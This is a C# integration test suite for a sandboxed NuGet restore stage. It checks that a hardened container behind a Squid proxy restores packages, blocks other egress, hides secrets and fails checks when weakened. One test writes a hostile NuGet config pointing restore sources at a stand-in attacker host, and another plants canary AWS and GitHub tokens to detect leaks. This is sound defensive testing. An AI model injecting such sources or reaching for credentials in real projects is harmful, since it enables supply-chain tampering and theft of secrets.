using System.Diagnostics;
using System.Net;
using System.Net.Sockets;
using Docker.DotNet.Models;
using SandboxBuild.Engine;
using SandboxBuild.Restore;

namespace SandboxBuild.IntegrationTests.Egress;

/// <summary>
/// The restore sandbox for real: a container of the sandbox image, proven by the gate and the restore checks,
/// restoring a real package from the static feed through the forwarder, the socket and Squid. The hardened
/// sandbox restores; each weakening, made for real, fails its check and restore never runs.
/// </summary>
public sealed class RestoreSandboxTests(EngineFixture engine, EgressFixture world) : IClassFixture<EngineFixture>, IClassFixture<EgressFixture>
{
    private RestorePlan Plan(string source, string state, string feed) => new()
    {
        SourceDirectory = source,
        StateFolder = state,
        Target = "Lib/Lib.csproj",
        Feeds = [TrustedFeeds.Parse(feed, 0, "/")],
        ExtraCertificates = [world.CaFile],
        ProxyHostsFile = world.HostsFile,
        ProxyDnsServers = ["127.0.0.1"],
    };

    private static TempFolder Library() => HostileRepository.Library("sandboxbuild-restore-");

    [Theory]
    [InlineData(true)]
    [InlineData(false)]
    public async Task A_package_restores_from_the_allowed_feed_through_the_proxy_into_a_fresh_folder(bool tls)
    {
        using var repository = Library();
        using var state = new TempFolder("sandboxbuild-state-");
        var feed = tls ? world.TlsFeed : world.HttpFeed;

        var log = new RecordingLog();

        var result = await RestoreStage.RunAsync(engine.Engine, engine.Policy, Plan(repository.Path, state.Path, feed), log, CancellationToken.None);

        Assert.True(result.Outcome == RestoreOutcome.Restored, Describe(result) + string.Join('\n', log.Lines));
        Assert.True(result.Gate!.Passed);
        Assert.All(new[] { "SBX2301", "SBX2302", "SBX2303", "SBX2304", "SBX2305", "SBX2001", "SBX2113" },
            code => Assert.Contains(result.Gate.Findings, f => f.Code.Id == code && f.Status == SandboxBuild.Validation.CheckStatus.Pass));
        Assert.True(File.Exists(Path.Combine(result.PackageFolder!, "newtonsoft.json", "13.0.3", "lib", "net6.0", "Newtonsoft.Json.dll")));
        var assets = File.ReadAllText(Path.Combine(result.ResultsFolder!, "Lib", "obj", "project.assets.json"));
        Assert.Contains("\"packageFolders\": {\n    \"/sandbox/nuget/0\": {}", assets, StringComparison.Ordinal);
        Assert.True(File.Exists(Path.Combine(result.ResultsFolder!, "Lib", "obj", "Lib.csproj.nuget.g.props")));
        Assert.Contains(world.Feed.Requests, r => r.StartsWith($"GET {(tls ? "https" : "http")}://", StringComparison.Ordinal) && r.EndsWith("newtonsoft.json.13.0.3.nupkg", StringComparison.Ordinal));
        Assert.Empty(await result.Egress);
        Assert.False(Directory.Exists(Path.Combine(repository.Path, "Lib", "obj")), "nothing is written into the repository");
        Assert.Equal(0, await Leftovers.CountAsync(engine.Engine, repository.Path));
    }

    [Fact]
    public async Task Unchanged_inputs_reuse_the_restore_without_a_sandbox_and_a_changed_project_restores_again()
    {
        using var repository = Library();
        using var state = new TempFolder("sandboxbuild-state-");
        var plan = Plan(repository.Path, state.Path, world.TlsFeed);
        var first = await RestoreStage.RunAsync(engine.Engine, engine.Policy, plan, EngineFixture.QuietLog, CancellationToken.None);

        var clock = Stopwatch.StartNew();
        var secondLog = new RecordingLog();
        var second = await RestoreStage.RunAsync(engine.Engine, engine.Policy, plan, secondLog, CancellationToken.None);
        var reuse = clock.Elapsed;
        repository.Write("Lib/Lib.csproj", File.ReadAllText(Path.Combine(repository.Path, "Lib", "Lib.csproj")).Replace("</TargetFramework>", "</TargetFramework><Description>changed</Description>", StringComparison.Ordinal));
        var thirdLog = new RecordingLog();
        var third = await RestoreStage.RunAsync(engine.Engine, engine.Policy, plan, thirdLog, CancellationToken.None);

        Assert.Equal(RestoreOutcome.Restored, first.Outcome);
        Assert.Equal(RestoreOutcome.Reused, second.Outcome);
        Assert.Equal((first.PackageFolder, first.ResultsFolder), (second.PackageFolder, second.ResultsFolder));
        Assert.True(reuse < TimeSpan.FromSeconds(1), $"reuse took {reuse}");
        Assert.Null(second.Gate);
        Assert.DoesNotContain(secondLog.Lines, l => l.StartsWith("Restore sandbox", StringComparison.Ordinal));
        Assert.Equal(RestoreOutcome.Restored, third.Outcome);
        Assert.NotEqual(first.InputsHash, third.InputsHash);
        Assert.Contains(thirdLog.Lines, l => l.StartsWith("Restore sandbox", StringComparison.Ordinal));
        Assert.True(Directory.Exists(first.PackageFolder), "the previous restore is kept for later reuse");
    }

    [Fact]
    public async Task A_hostile_repository_restores_its_package_and_reaches_nothing_else()
    {
        var bridge = await HostSide.BridgeAddressAsync(engine.Engine);
        using var listeners = new CountingListeners(bridge);
        using var stray = new TempFolder("sandboxbuild-stray-host-folder-");
        using var repository = HostileRepository.Create(bridge, listeners.TcpPort, listeners.UdpPort, world.Refused.TcpPort, stray.Path);
        using var state = new TempFolder("sandboxbuild-state-");
        var before = HostSide.Snapshot(repository.Path);
        var refusedBefore = world.Refused.TcpConnections;
        var log = new RecordingLog();
        RestoreResult result;
        Environment.SetEnvironmentVariable("AWS_SECRET_ACCESS_KEY", HostileRepository.Secret);
        Environment.SetEnvironmentVariable("GITHUB_TOKEN", HostileRepository.Token);
        try
        {
            result = await RestoreStage.RunAsync(engine.Engine, engine.Policy, Plan(repository.Path, state.Path, world.TlsFeed) with
            {
                Canaries = [HostileRepository.Secret, HostileRepository.Token],
            }, log, CancellationToken.None);
        }
        finally
        {
            Environment.SetEnvironmentVariable("AWS_SECRET_ACCESS_KEY", null);
            Environment.SetEnvironmentVariable("GITHUB_TOKEN", null);
        }

        Assert.True(result.Outcome == RestoreOutcome.Restored, Describe(result));
        var evidence = HostileRepository.Evidence(result.PackageFolder!);
        Assert.Equal(("[]", "[]", "[]"), (evidence["key"], evidence["token"], evidence["file"]));
        Assert.Equal("[/home/sandbox]", evidence["home"]);
        Assert.Equal("1000", evidence["uid"]);
        Assert.Equal("absent", evidence["docker-socket"]);
        Assert.Equal("0", evidence["env-secrets"]);
        Assert.Equal("failed", evidence["direct-tcp"]);
        Assert.Equal("failed", evidence["udp"]);
        Assert.Equal("refused", evidence["write-source"]);
        Assert.StartsWith("HTTP/1.1_403", evidence["via-proxy"], StringComparison.Ordinal);
        Assert.Equal((0, 0), (listeners.TcpConnections, listeners.Datagrams));
        Assert.Equal(refusedBefore, world.Refused.TcpConnections);
        Assert.Contains(await result.Egress, f => f.Code.Id == "SBX3201" && f.Subject == $"restore tried to reach evil.test:{world.Refused.TcpPort}");
        Assert.True(File.Exists(Path.Combine(result.PackageFolder!, "newtonsoft.json", "13.0.3", "newtonsoft.json.13.0.3.nupkg")));
        Assert.Equal(before, HostSide.Snapshot(repository.Path));
        Assert.Empty(Directory.GetFileSystemEntries(stray.Path));
        Assert.DoesNotContain(result.Gate!.Findings, f => f.Seen.Contains(stray.Path, StringComparison.Ordinal));
        Assert.DoesNotContain(log.Lines, l => l.Contains(HostileRepository.Secret, StringComparison.Ordinal) || l.Contains(HostileRepository.Token, StringComparison.Ordinal));
    }

    [Fact]
    public async Task Sources_the_repository_adds_are_refused_at_the_proxy_once_per_host()
    {
        using var repository = Library();
        using var state = new TempFolder("sandboxbuild-state-");
        // A repository cannot add a source through NuGet.config (the trusted config replaces it), but it can through MSBuild.
        repository.Write("Directory.Build.props", $"""
            <Project><PropertyGroup>
              <RestoreSources>https://{EgressFixture.Evil}:{world.Refused.TcpPort}/v3/index.json;https://127.0.0.1:{world.Refused.TcpPort}/index.json;{world.TlsFeed}</RestoreSources>
            </PropertyGroup></Project>
            """);
        repository.Write("NuGet.config", $"""<configuration><config><add key="http_proxy" value="http://127.0.0.1:9" /></config><packageSources><add key="evil" value="https://{EgressFixture.Evil}/x" /></packageSources></configuration>""");
        HostileRepository.Readable(repository.Path);
        var refusedBefore = world.Refused.TcpConnections;
        var log = new RecordingLog();

        var result = await RestoreStage.RunAsync(engine.Engine, engine.Policy, Plan(repository.Path, state.Path, world.TlsFeed), log, CancellationToken.None);

        Assert.True(result.Outcome == RestoreOutcome.Failed, string.Join('\n', log.Lines));
        Assert.True((await result.Egress).Count >= 2, string.Join('\n', log.Lines));
        Assert.Null(result.PackageFolder);
        var refused = (await result.Egress).Where(f => f.Code.Id == "SBX3201").Select(f => f.Subject).ToArray();
        Assert.Contains($"restore tried to reach evil.test:{world.Refused.TcpPort}", refused);
        Assert.Contains($"restore tried to reach 127.0.0.1:{world.Refused.TcpPort}", refused);
        Assert.Equal(refused.Length, refused.Distinct().Count());
        Assert.Equal(refusedBefore, world.Refused.TcpConnections);
        Assert.Empty(Directory.GetDirectories(Path.Combine(state.Path, "restore"))); // a failed restore keeps nothing
    }

    [Fact]
    public async Task A_private_feed_gets_its_credential_from_the_trusted_side_only_in_the_restore_sandbox()
    {
        const string secret = "feed-secret-7c1d2e9f0a";
        var authorization = "Basic " + Convert.ToBase64String(System.Text.Encoding.ASCII.GetBytes($"reader:{secret}"));
        var certificates = new TestCertificates([EgressFixture.TlsName]);
        await using var privateFeed = StaticFeed.Start(certificates.Server, new Dictionary<string, string> { ["newtonsoft.json/13.0.3"] = StaticFeed.NewtonsoftJson },
            requiredAuthorization: authorization);
        using var repository = Library();
        using var withoutState = new TempFolder("sandboxbuild-state-");
        using var withState = new TempFolder("sandboxbuild-state-");
        var plan = Plan(repository.Path, withoutState.Path, $"https://{EgressFixture.TlsName}:{privateFeed.HttpsPort}/v3/index.json") with { ExtraCertificates = [certificates.AuthorityFile] };
        var credential = TrustedFeeds.ParseCredential($"{EgressFixture.TlsName}=FEED_TOKEN", name => name == "FEED_TOKEN" ? $"reader:{secret}" : null);

        var without = await RestoreStage.RunAsync(engine.Engine, engine.Policy, plan, EngineFixture.QuietLog, CancellationToken.None);
        var with = await RestoreStage.RunAsync(engine.Engine, engine.Policy, plan with { StateFolder = withState.Path, Credentials = [credential] }, EngineFixture.QuietLog, CancellationToken.None);
        await with.Egress; // the proxy has stopped and the restore's work folder is gone

        Assert.Equal(RestoreOutcome.Failed, without.Outcome);
        Assert.True(with.Outcome == RestoreOutcome.Restored, Describe(with));
        Assert.Contains("authorized", privateFeed.Requests);
        Assert.Contains(with.Gate!.Findings, f => f.Code.Id == "SBX2304" && f.Status == SandboxBuild.Validation.CheckStatus.Pass);
        Assert.Equal([secret], with.Canaries);
        Assert.DoesNotContain(Directory.EnumerateFiles(withState.Path, "*", SearchOption.AllDirectories), f => File.ReadAllText(f).Contains(secret, StringComparison.Ordinal));
        certificates.Dispose();
    }

    [Fact]
    public async Task A_cancelled_restore_leaves_no_sandbox_no_proxy_and_no_folder()
    {
        using var repository = Library();
        using var state = new TempFolder("sandboxbuild-state-");
        using var cancel = new CancellationTokenSource();
        var log = new RecordingLog(line =>
        {
            if (line.StartsWith("Restore sandbox", StringComparison.Ordinal))
            {
                cancel.CancelAfter(TimeSpan.FromSeconds(1)); // while the gate proves the sandbox, Squid running
            }
        });

        await Assert.ThrowsAnyAsync<OperationCanceledException>(() => RestoreStage.RunAsync(engine.Engine, engine.Policy, Plan(repository.Path, state.Path, world.TlsFeed), log, cancel.Token));

        Assert.Equal(0, await Leftovers.CountAsync(engine.Engine, repository.Path));
        Assert.Empty(Directory.GetFileSystemEntries(Path.Combine(state.Path, "restore")));
        Assert.Empty(OrphanedSquids());
    }

    /// <summary>Squids started from a proxy folder that no longer exists: nobody could ever stop them.</summary>
    private static IEnumerable<int> OrphanedSquids() =>
        Directory.EnumerateDirectories("/proc").Select(Path.GetFileName).Select(p => int.TryParse(p, out var pid) ? pid : 0).Where(pid => pid > 0)
            .Select(pid => (pid, command: ReadOrEmpty($"/proc/{pid}/cmdline").Split('\0')))
            .Where(p => p.command is ["/usr/sbin/squid", "-N", "-f", var config, ..] && config.StartsWith(ProxyFolder.BaseFolder, StringComparison.Ordinal) && !File.Exists(config))
            .Select(p => p.pid);

    private static string ReadOrEmpty(string file)
    {
        try
        {
            return File.ReadAllText(file);
        }
        catch (Exception e) when (e is IOException or UnauthorizedAccessException)
        {
            return "";
        }
    }

    /// <summary>Each weakening gets an empty folder of its own (never a shared one like /tmp: the probe connects to every socket it finds).</summary>
    public static TheoryData<string, Action<CreateContainerParameters, string>, string[]> Weakenings => new()
    {
        { "a network of its own", (p, _) => p.HostConfig.NetworkMode = "bridge", ["SBX2301", "SBX2001"] },
        { "the proxy folder writable", (p, _) => p.HostConfig.Mounts!.Single(m => m.Target == RestoreLayout.ProxyTarget).ReadOnly = false, ["SBX2303"] },
        { "another proxy folder", (p, empty) => p.HostConfig.Mounts!.Single(m => m.Target == RestoreLayout.ProxyTarget).Source = empty, ["SBX2303"] },
        { "an extra variable", (p, _) => p.Env.Add("NUGET_EXTRA=1"), ["SBX2304"] },
        { "a host token in the environment", (p, _) => p.Env.Add($"CI_TOKEN={HostileRepository.Token}"), ["SBX2304"] },
        { "another writable host folder", (p, empty) => p.HostConfig.Mounts.Add(SandboxSpec.Bind(empty, "/scratch", readOnly: false)), ["SBX2305"] },
    };

    [Theory]
    [MemberData(nameof(Weakenings))]
    public async Task Each_weakening_made_for_real_fails_its_restore_check_and_nothing_is_restored(string weakening, Action<CreateContainerParameters, string> weaken, string[] codes)
    {
        Assert.NotEmpty(weakening);
        using var repository = Library();
        using var state = new TempFolder("sandboxbuild-state-");
        using var empty = new TempFolder("sandboxbuild-empty-");

        var result = await RestoreStage.RunAsync(engine.Engine, engine.Policy, Plan(repository.Path, state.Path, world.TlsFeed) with
        {
            Customize = p => weaken(p, empty.Path),
            Canaries = [HostileRepository.Token],
        }, EngineFixture.QuietLog, CancellationToken.None);

        Assert.Equal(RestoreOutcome.GateFailed, result.Outcome);
        var failed = result.Gate!.Failures.Select(f => f.Code.Id).ToHashSet();
        Assert.All(codes, code => Assert.True(failed.Contains(code), $"expected {code} among {string.Join(", ", failed.Order())}"));
        Assert.Null(result.ExitCode);
        Assert.Null(result.PackageFolder);
    }

    [Fact]
    public async Task Another_reachable_socket_fails_the_restore_check()
    {
        using var folder = new TempFolder();
        var path = Path.Combine(folder.Path, "agent.sock");
        using var listener = new Socket(AddressFamily.Unix, SocketType.Stream, ProtocolType.Unspecified);
        listener.Bind(new UnixDomainSocketEndPoint(path));
        listener.Listen();
        File.SetUnixFileMode(path, (UnixFileMode)0b111_111_111);
        using var repository = Library();
        using var state = new TempFolder("sandboxbuild-state-");

        var result = await RestoreStage.RunAsync(engine.Engine, engine.Policy, Plan(repository.Path, state.Path, world.TlsFeed) with
        {
            Customize = p => p.HostConfig.Mounts.Add(SandboxSpec.Bind(folder.Path, "/run/host-agent", readOnly: true)),
        }, EngineFixture.QuietLog, CancellationToken.None);

        Assert.Equal(RestoreOutcome.GateFailed, result.Outcome);
        Assert.Contains(result.Gate!.Failures, f => f.Code.Id == "SBX2302" && f.Seen.Contains("/run/host-agent/agent.sock", StringComparison.Ordinal));
        Assert.Contains(result.Gate.Failures, f => f.Code.Id == "SBX2113");
    }


    private static string Describe(RestoreResult result) =>
        $"{result.Outcome} exit={result.ExitCode}: " + string.Join("; ", result.Gate?.Failures.Select(f => $"{f.Code.Id} {f.Describe()}") ?? [])
        + string.Join("; ", (result.Egress.IsCompletedSuccessfully ? result.Egress.Result : []).Select(f => $"{f.Code.Id} {f.Describe()}"));
}
